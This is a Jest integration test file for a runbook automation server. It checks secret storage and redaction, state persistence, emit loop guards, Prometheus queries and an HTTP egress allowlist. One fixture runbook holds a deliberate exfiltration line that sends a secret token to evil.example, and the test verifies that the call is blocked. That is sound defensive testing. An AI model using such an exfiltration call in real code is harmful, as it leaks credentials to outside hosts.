// The runbook capabilities end to end through the real server (sqlite file, git repository,
// isolated-vm): the secrets API (write-only, encrypted at rest), ctx.secrets with redaction of
// everything the execution keeps, ctx.state across executions, ctx.emit with its loop guards.
import { type ChildProcess, spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { type AddressInfo, createServer as createNetServer } from 'node:net';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ExecutionDetailDto, ExecutionSummaryDto, PageDto } from '@wolfe/api-types';
import { api, eventually, startTestServer, type TestServer } from '../testing/test-server';
import { newEpisodeAlert } from '../testing/alerts';

const SECRET = 'xoxb-2026-wolfe-capability-secret';

const manifest = (name: string, alertname: string, extra = ''): string =>
  `name: ${name}\ndescription: test\nowner: tests\ntriggers:\n  - match: 'alertname="${alertname}"'\n    status: any\n${extra}`;

const caller = (port: number): Record<string, string> => ({
  'runbook.yaml': manifest('caller', 'Caller', `secrets: [SLACK_TOKEN]\negress: ['127.0.0.1:${port}']\n`),
  'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  const token = await ctx.secrets.get('SLACK_TOKEN');
  const status = await ctx.http.getJson<{ ok: boolean }>('http://127.0.0.1:${port}/status', { headers: { authorization: 'Bearer ' + token } });
  const posted = await ctx.http.postJson('http://127.0.0.1:${port}/notify', { text: 'cleaned' });
  const exfil = await ctx.http.fetch('http://evil.example/collect?t=' + token).then(() => 'sent', (e: Error) => e.name + ': ' + e.message);
  const otherPort = await ctx.http.fetch('http://127.0.0.1:${port + 1}/').then(() => 'sent', (e: Error) => e.name);
  return { status, posted, exfil, otherPort };
});
`,
});

const PROMETHEUS = '/usr/bin/prometheus';

async function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const srv = createNetServer();
    srv.on('error', reject);
    srv.listen(0, '127.0.0.1', () => {
      const { port } = srv.address() as AddressInfo;
      srv.close(() => resolve(port));
    });
  });
}

const RUNBOOKS: Record<string, Record<string, string>> = {
  prom: {
    'runbook.yaml': manifest('prom', 'Prom', 'secrets: [SLACK_TOKEN]\n'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  const up = await ctx.prometheus.query('up{job="prometheus"}');
  const range = await ctx.prometheus.queryRange('up{job="prometheus"}', { start: new Date(Date.now() - 60_000), end: new Date(), step: '5s' });
  const bad = await ctx.prometheus.query('sum(').catch((e: Error) => e.name + ': ' + e.message);
  const token = await ctx.secrets.get('SLACK_TOKEN');
  const leak = await ctx.prometheus.query('up{token="' + token + '"}').catch((e: Error) => e.name);
  return {
    upType: up.resultType,
    up: up.resultType === 'vector' ? up.result.map((r) => [r.metric.job, r.value[1]]) : null,
    rangeType: range.resultType,
    points: range.resultType === 'matrix' ? (range.result[0]?.values.length ?? 0) > 0 : false,
    bad,
    leak,
  };
});
`,
  },
  'secret-user': {
    'runbook.yaml': manifest('secret-user', 'SecretUser', 'secrets: [SLACK_TOKEN]\n'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  const token = await ctx.secrets.get('SLACK_TOKEN');
  ctx.log.info('token is ' + token, { token });
  await ctx.step('use ' + token, () => token);
  ctx.attach('creds', { token });
  const undeclared = await ctx.secrets.get('OTHER').catch((e: Error) => e.name);
  return { token, undeclared };
});
`,
  },
  'secret-thrower': {
    'runbook.yaml': manifest('secret-thrower', 'SecretThrower', 'secrets: [SLACK_TOKEN]\n'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  throw new Error('leaking ' + (await ctx.secrets.get('SLACK_TOKEN')));
});
`,
  },
  counter: {
    'runbook.yaml': manifest('counter', 'Counter'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  const n = ((await ctx.state.get<number>('runs')) ?? 0) + 1;
  await ctx.state.set('runs', n);
  return { runs: n };
});
`,
  },
  looper: {
    'runbook.yaml': manifest('looper', 'Loop'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  const e = await ctx.emit({ labels: { alertname: 'Loop', round: String(Number(ctx.event.labels.round ?? '0') + 1) } });
  await ctx.emit({ labels: { alertname: 'Echoed', from: 'looper' } });
  return { emitted: e.id, source: ctx.event.source };
});
`,
  },
  echo: {
    'runbook.yaml': manifest('echo', 'Echoed'),
    'index.ts': `import { runbook } from '@wolfe/sdk';
export default runbook(async (ctx) => {
  return { source: ctx.event.source, chain: ctx.event.annotations.wolfe_emit_chain ?? null };
});
`,
  },
};


jest.setTimeout(60_000);

describe('runbook capabilities through the real server', () => {
  let seedDir: string;
  let s: TestServer;
  let prometheus: ChildProcess | null = null;
  let promDir = '';
  let target: Server;
  let targetPort = 0;
  const received: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];

  async function executionsOf(runbook: string): Promise<ExecutionSummaryDto[]> {
    const page = (await (await api(s, `/api/v1/executions?runbook=${runbook}&limit=100`)).json()) as PageDto<ExecutionSummaryDto>;
    return page.items;
  }

  async function fire(alertname: string): Promise<string> {
    const res = await api(s, '/api/v1/events/alertmanager', { method: 'POST', body: newEpisodeAlert(alertname), headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(202);
    const { eventIds } = (await res.json()) as { eventIds: string[] };
    const page = async () => ((await (await api(s, '/api/v1/executions?limit=100')).json()) as PageDto<ExecutionSummaryDto>).items;
    return eventually(async () => (await page()).find((e) => e.eventId === eventIds[0])?.id, { timeoutMs: 15_000 });
  }

  async function finished(id: string): Promise<ExecutionDetailDto> {
    return eventually(
      async () => {
        const d = (await (await api(s, `/api/v1/executions/${id}`)).json()) as ExecutionDetailDto;
        return d.status === 'queued' || d.status === 'running' ? undefined : d;
      },
      { timeoutMs: 20_000 },
    );
  }

  const putSecret = (name: string, body: unknown, env = 'prod', project = 'default') =>
    api(s, `/api/v1/projects/${project}/secrets/${name}?env=${env}`, { method: 'PUT', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });

  beforeAll(async () => {
    target = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString('utf8')));
      req.on('end', () => {
        received.push({ url: req.url ?? '', headers: req.headers, body });
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ ok: true, path: req.url }));
      });
    });
    await new Promise<void>((r) => target.listen(0, '127.0.0.1', r));
    targetPort = (target.address() as AddressInfo).port;
    seedDir = await mkdtemp(join(tmpdir(), 'wolfe-caps-seed-'));
    for (const [name, files] of Object.entries({ ...RUNBOOKS, caller: caller(targetPort) })) {
      await mkdir(join(seedDir, name), { recursive: true });
      for (const [file, content] of Object.entries(files)) await writeFile(join(seedDir, name, file), content);
    }
    // The real Prometheus (Debian's package), scraping itself on a free loopback port.
    if (!existsSync(PROMETHEUS)) throw new Error(`${PROMETHEUS} is missing: run scripts/ensure-system-deps.sh (apt-get install prometheus)`);
    promDir = await mkdtemp(join(tmpdir(), 'wolfe-prometheus-'));
    const promPort = await freePort();
    await writeFile(
      join(promDir, 'prometheus.yml'),
      `global:\n  scrape_interval: 1s\nscrape_configs:\n  - job_name: prometheus\n    static_configs:\n      - targets: ['127.0.0.1:${promPort}']\n`,
    );
    prometheus = spawn(PROMETHEUS, [`--config.file=${join(promDir, 'prometheus.yml')}`, `--storage.tsdb.path=${join(promDir, 'data')}`, `--web.listen-address=127.0.0.1:${promPort}`], { stdio: 'ignore' });
    const promUrl = `http://127.0.0.1:${promPort}`;
    await eventually(
      async () => {
        const r = await fetch(`${promUrl}/api/v1/query?query=${encodeURIComponent('up{job="prometheus"}')}`);
        const body = (await r.json()) as { data?: { result?: unknown[] } };
        return (body.data?.result?.length ?? 0) > 0 ? true : undefined;
      },
      { timeoutMs: 30_000, intervalMs: 200 },
    );
    await writeFile(join(promDir, 'wolfe.yaml'), `prometheus:\n  url: ${promUrl}\n`);
    s = await startTestServer({ env: { WOLFE_SEED_DIR: seedDir, WOLFE_CONFIG: join(promDir, 'wolfe.yaml') } });
  }, 60_000);
  afterAll(async () => {
    await s?.close();
    if (prometheus !== null && prometheus.exitCode === null) {
      const exited = new Promise((r) => prometheus?.once('exit', r));
      prometheus.kill('SIGTERM');
      await exited;
    }
    if (promDir !== '') await rm(promDir, { recursive: true, force: true });
    target?.closeAllConnections();
    await new Promise<void>((r) => (target ? target.close(() => r()) : r()));
    await rm(seedDir, { recursive: true, force: true });
  });

  describe('the SDK declarations', () => {
    it('serves one .d.ts with ctx and every capability for the Studio editor', async () => {
      const res = await api(s, '/api/v1/sdk.d.ts');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^application\/typescript/);
      const text = await res.text();
      for (const needle of ['export interface RunbookContext', 'export interface RunbookSecrets', 'export interface RunbookState', 'export interface RunbookHttp', 'emit(event: RunbookEmittedEvent)', 'export interface RunbookPrometheus', 'export declare function runbook<']) {
        expect(text).toContain(needle);
      }
      expect((await fetch(`${s.url}/api/v1/sdk.d.ts`)).status).toBe(401);
    });
  });

  describe('the secrets API', () => {
    it('writes a secret, lists names only, never returns the value, and stores it encrypted', async () => {
      const put = await putSecret('SLACK_TOKEN', { value: SECRET });
      expect(put.status).toBe(200);
      const putText = await put.text();
      expect(putText).not.toContain(SECRET);
      expect(JSON.parse(putText)).toMatchObject({ project: 'default', env: 'prod', name: 'SLACK_TOKEN', updatedBy: 'admin' });

      const list = await api(s, '/api/v1/projects/default/secrets?env=prod');
      expect(list.status).toBe(200);
      const listed = (await list.json()) as { secrets: { name: string }[] };
      expect(listed).toMatchObject({ project: 'default', env: 'prod', secrets: [{ name: 'SLACK_TOKEN', updatedAt: expect.any(String), updatedBy: 'admin' }] });
      expect(JSON.stringify(listed)).not.toContain(SECRET);
      expect(((await (await api(s, '/api/v1/projects/default/secrets?env=dev')).json()) as { secrets: unknown[] }).secrets).toEqual([]);

      // Encrypted at rest: the value appears nowhere in the database files.
      const files = ['wolfe.db', 'wolfe.db-wal'].map((f) => join(s.dataDir, f));
      for (const f of files) {
        let bytes: Buffer;
        try {
          bytes = readFileSync(f);
        } catch {
          continue;
        }
        expect(bytes.includes(Buffer.from(SECRET))).toBe(false);
        expect(bytes.includes(Buffer.from('wolfe-capability'))).toBe(false);
      }
    });

    it('refuses bad requests without echoing the value, unknown projects, and a missing env', async () => {
      const short = await putSecret('SHORT', { value: 'abc' });
      expect(short.status).toBe(400);
      expect(((await short.json()) as { message: string }).message).toMatch(/shorter than 4 characters/);
      const notString = await putSecret('NUM', { value: 12345678 });
      expect(notString.status).toBe(400);
      expect(await notString.text()).not.toContain('12345678');
      expect((await putSecret('bad-name', { value: 'abcdefgh' })).status).toBe(400);
      expect((await putSecret('X', { value: 'abcdefgh', extra: 1 })).status).toBe(400);
      const noEnv = await api(s, '/api/v1/projects/default/secrets/X', { method: 'PUT', body: '{"value":"abcdefgh"}', headers: { 'content-type': 'application/json' } });
      expect(noEnv.status).toBe(400);
      expect((await putSecret('X', { value: 'abcdefgh' }, 'prod', 'nope')).status).toBe(404);
      expect((await fetch(`${s.url}/api/v1/projects/default/secrets?env=prod`)).status).toBe(401);
      const intake = await fetch(`${s.url}/api/v1/projects/default/secrets?env=prod`, { headers: { authorization: `Bearer ${s.intakeToken}` } });
      expect(intake.status).toBe(401);
    });

    it('deletes a secret once', async () => {
      expect((await putSecret('TEMP', { value: 'temporary-value' }, 'dev')).status).toBe(200);
      expect((await api(s, '/api/v1/projects/default/secrets/TEMP?env=dev', { method: 'DELETE' })).status).toBe(204);
      expect((await api(s, '/api/v1/projects/default/secrets/TEMP?env=dev', { method: 'DELETE' })).status).toBe(404);
    });
  });

  describe('ctx.secrets in executions', () => {
    it('gives a runbook its declared secret and redacts it from the log, steps, attachments and result', async () => {
      expect((await putSecret('SLACK_TOKEN', { value: SECRET })).status).toBe(200);
      const d = await finished(await fire('SecretUser'));
      expect(d.status).toBe('succeeded');
      expect(d.result).toEqual({ token: '[secret:SLACK_TOKEN]', undeclared: 'SecretNotDeclaredError' });
      expect(d.logs.map((l) => [l.message, l.fields])).toEqual([['token is [secret:SLACK_TOKEN]', { token: '[secret:SLACK_TOKEN]' }]]);
      expect(d.steps.map((st) => [st.name, st.output])).toEqual([['use [secret:SLACK_TOKEN]', '"[secret:SLACK_TOKEN]"']]);
      const attachment = await (await api(s, `/api/v1/executions/${d.id}/attachments/0`)).text();
      expect(attachment).toContain('[secret:SLACK_TOKEN]');
      expect(JSON.stringify(d) + attachment).not.toContain(SECRET);
    });

    it('redacts it from the error of a failed execution', async () => {
      const d = await finished(await fire('SecretThrower'));
      expect(d.status).toBe('failed');
      expect(d.error?.message).toMatch(/^leaking \[secret:SLACK_TOKEN\]/);
      expect(JSON.stringify(d)).not.toContain(SECRET);
    });
  });

  describe('ctx.http', () => {
    it('reaches the allowlisted host with the secret, and refuses to carry it anywhere else', async () => {
      expect((await putSecret('SLACK_TOKEN', { value: SECRET })).status).toBe(200);
      received.length = 0;
      const d = await finished(await fire('Caller'));
      expect(d.status).toBe('succeeded');
      expect(d.result).toEqual({
        status: { ok: true, path: '/status' },
        posted: { ok: true, path: '/notify' },
        exfil: "EgressDeniedError: ctx.http: http://evil.example is not in the runbook's egress allowlist (egress: allows 127.0.0.1:" + targetPort + '); add it to egress: in runbook.yaml',
        otherPort: 'EgressDeniedError',
      });
      expect(received.map((r) => [r.url, r.headers['authorization'] ?? null, r.body])).toEqual([
        ['/status', `Bearer ${SECRET}`, ''],
        ['/notify', null, '{"text":"cleaned"}'],
      ]);
      expect(JSON.stringify(d)).not.toContain(SECRET);
    });
  });

  describe('ctx.prometheus', () => {
    it('queries the configured Prometheus (the real one), maps its errors, and never sends it a secret', async () => {
      expect((await putSecret('SLACK_TOKEN', { value: SECRET })).status).toBe(200);
      const d = await finished(await fire('Prom'));
      expect(d.status).toBe('succeeded');
      expect(d.result).toEqual({
        upType: 'vector',
        up: [['prometheus', '1']],
        rangeType: 'matrix',
        points: true,
        bad: expect.stringMatching(/^PrometheusError: ctx\.prometheus: bad_data: .*parse error/),
        leak: 'SecretLeakError',
      });
    });
  });

  describe('ctx.state', () => {
    it('keeps values across executions of the runbook', async () => {
      expect((await finished(await fire('Counter'))).result).toEqual({ runs: 1 });
      expect((await finished(await fire('Counter'))).result).toEqual({ runs: 2 });
    });
  });

  describe('ctx.emit', () => {
    it('routes emitted events to other runbooks with the chain, and never back into the emitter', async () => {
      const first = await finished(await fire('Loop'));
      expect(first).toMatchObject({ status: 'succeeded', result: { source: 'alertmanager' } });
      // The emitted Loop event matched the looper itself: that execution is cancelled, never run.
      const loops = await eventually(async () => {
        const xs = await executionsOf('looper');
        return xs.length >= 2 && xs.every((x) => x.status !== 'queued' && x.status !== 'running') ? xs : undefined;
      });
      expect(loops).toHaveLength(2);
      const cancelled = await finished(loops.find((x) => x.id !== first.id)?.id ?? '');
      expect(cancelled).toMatchObject({ status: 'cancelled', error: { name: 'EmitLoopError', limit: 'emit' } });
      expect(cancelled.logs).toEqual([]);
      expect(cancelled.event).toMatchObject({ source: 'runbook:default/looper', labels: { alertname: 'Loop', round: '1' } });

      const echoed = await eventually(async () => (await executionsOf('echo')).find((x) => x.status === 'succeeded'));
      expect((await finished(echoed.id)).result).toEqual({ source: 'runbook:default/looper', chain: 'default/looper' });
    });
  });
});
